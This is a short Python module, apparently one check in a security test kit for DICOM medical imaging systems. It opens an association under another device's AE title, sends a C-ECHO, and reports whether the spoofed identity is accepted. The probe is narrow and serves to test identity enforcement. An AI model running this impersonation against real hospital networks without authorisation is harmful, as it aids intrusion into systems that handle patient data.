"""A registered device calls itself by the AE title of another one."""

from __future__ import annotations

from .dicom import IMPLICIT_LE, VERIFICATION, open_association
from .kit import Brief, Result, run


def attack(brief: Brief) -> Result:
    """Succeeds when the borrowed AE title is accepted."""
    device, other = brief["device"], brief["innocent"]["ae"]
    association = open_association(brief, other, [(VERIFICATION, IMPLICIT_LE)], device, tls=True)
    status = association.echo()
    association.release()
    return Result(status == 0, f"C-ECHO status {status:04X} under another device's AE title")


if __name__ == "__main__":
    run(attack)
